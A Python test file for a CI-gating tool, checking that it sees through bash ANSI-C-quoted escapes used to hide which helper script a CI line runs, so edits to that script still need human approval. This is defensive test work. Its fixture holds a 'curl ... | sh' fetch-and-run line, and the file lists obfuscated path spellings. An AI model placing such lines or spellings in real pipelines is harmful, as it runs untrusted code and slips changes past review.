"""Attack 44: a CI line whose path bash decodes from ANSI-C quoting (`$'...'`).

bash decodes the backslash escapes inside `$'...'` before it runs the word: `bash $'tools/g\\x65n'` runs tools/gen
(`\\xHH`, octal `\\NNN`, `\\uHHHH`, `\\UHHHHHHHH`, `\\'`, `\\\\`, `\\"`, `\\cX`, `\\e`), and so does a variable holding
such a word, a sourced file, an interpreter's script and a task name. The walk read the quoted text as written, so
the helper stayed `src` and an edit to it was an exit-0 allow (`gate --tree` on main 55d0fa69). Real bash is the
truth of every line here.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from citools import LINE_DEFINITIONS, yaml_quoted
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ansiquotes, ciruns, walkpaths

HELPER = "#!/bin/sh\necho ran > ran.txt\n"
EVIL = HELPER + "curl https://127.0.0.1:9/i | sh\n"


def _spellings(path: str) -> list[str]:
    """`path` (ending in `gen`) inside `$'...'` with its `g` written as each ANSI-C escape bash decodes, and quoted
    in parts."""
    head = path[:-3]
    forms = ["\\x67", "\\147", "\\u0067", "\\U00000067", "g"]
    return [f"$'{head}{form}en'" for form in forms] + \
        [f"$'{head[:2]}'{head[2:]}gen", f"{head}$'\\x67'en", f"$'{head}\\x67\\x65\\x6e'",
         f"{head[:1]}$'{head[1:]}'$'gen'", f"$'{head}'\"gen\""]


# how a line runs the word bash decodes ({w}: the quoted word, which is tools/gen or ./tools/gen)
RUNS = ["bash {w}", "sh {w} --fast", "source {w}", ". {w}", "S={w}; bash \"$S\"", "S={w}; . $S",
        "set -e; bash {w}", "if true; then bash {w}; fi", "timeout 60 bash {w}", "X=1 bash {w}", "{w}"]
WORDS = _spellings("tools/gen") + ["$'./tools/g\\x65n'", "$'tool\\x73'/gen", "$'\\x74ools/gen'",
                                  "$'tools\\x2fgen'", "$'tools/\\147en'", "$'tools/ge\\156'", "'tools/'gen"]
LINES = [run.format(w=word) for word in WORDS for run in RUNS[:1]] + \
    [run.format(w=word) for word in WORDS[::3] for run in RUNS[1:]
     if not (run == "{w}" and not word.lstrip("$'\"").startswith("./"))]


def _names(path: str, template: str, line: str, target: str = "tools/gen") -> bool:
    text = template.format(line=yaml_quoted(line) if path.endswith(".yml") else line)
    scripts, _, folders = ciruns.named_in(path, text)
    return any(walkpaths.reaches(pattern, target) for named in scripts for pattern in ciruns.resolved(
        named, path, folders))


@each_case("line", LINES)
def test_bash_runs_the_helper(tmp_path: Path, line: str) -> None:
    """The truth: bash runs tools/gen's text in each form."""
    (tmp_path / "tools").mkdir()
    gen = tmp_path / "tools" / "gen"
    gen.write_text(HELPER)
    gen.chmod(0o755)
    done = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, timeout=30, check=False,
                          env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)})
    assert (tmp_path / "ran.txt").exists(), (line, done.stderr[-400:])


@each_case("line", LINES)
def test_an_ansi_quoted_path_is_named(line: str) -> None:
    missed = [path for path, template in DEFINITIONS if not _names(path, template, line)]
    assert not missed, (line, missed)


DEFINITIONS = LINE_DEFINITIONS


# bash's own readings, one escape each (the decoder beside bash: the same bytes)
ESCAPES = ["a\\x41b", "\\101", "\\0101", "\\u00e9", "\\U0001F600", "\\n", "\\t", "\\\\", "\\'", "\\\"", "\\?",
           "\\e", "\\E", "\\a", "\\b", "\\f", "\\v", "\\r", "\\cA", "\\c?", "\\x", "\\xZ", "\\q", "\\8", "\\uZZ",
           "\\777", "\\x41\\x42", "plain", ""]


@each_case("body", ESCAPES)
def test_the_decoding_is_bash_s(body: str) -> None:
    printed = subprocess.run(["bash", "-c", f"printf %s $'{body}'"], capture_output=True, timeout=30, check=True,
                             env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"}).stdout
    assert ansiquotes.decoded(body).encode("utf-8", "surrogateescape") == printed, body


# lines that quote a path bash does not run, or run another file: they name no tools/gen
LOOK_ALIKES = ["echo $'tools/g\\x65n'", "cat $'tools/g\\x65n'", "bash $'tools/g\\x66n'", "printf $'tools/gen\\n'",
               "bash 'tools/g\\x65n'", "ls $'tools/\\147en'"]


@each_case("line", LOOK_ALIKES)
def test_a_path_not_run_is_not_named(line: str) -> None:
    for path, template in DEFINITIONS:
        assert not _names(path, template, line), (path, line)


@each_case("line", ["bash $'tools/g\\x65n'", "S=$'tools/\\147en'; bash \"$S\"", ". $'tools/gen'",
                    "$'./tools/g\\u0065n'"])
def test_the_gated_edit_needs_a_human(tmp_path: Path, line: str) -> None:
    workflow = DEFINITIONS[0][1].format(line=yaml_quoted(line))
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, "tools/gen": HELPER,
                                              "README.md": "x\n"}, {"tools/gen": EVIL})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


@each_case("unit", ["$'\\x41", "$'a'", "$'\\u", "$'\\\\'$'", "$'\\'"])
def test_a_hostile_line_is_read_in_linear_time(unit: str) -> None:
    def read(line: str) -> object:
        return ciruns.named_in("ci/build.sh", "#!/bin/bash\nbash " + line + " x\n")

    assert_linear(read, repeated(unit), budget=1.0)
